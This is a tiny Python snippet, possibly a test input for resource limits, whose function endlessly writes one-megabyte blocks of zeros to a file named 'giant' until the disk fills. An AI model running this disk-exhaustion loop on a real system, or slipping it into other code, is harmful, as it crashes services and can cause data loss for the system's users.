def f(x):
    with open("giant", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
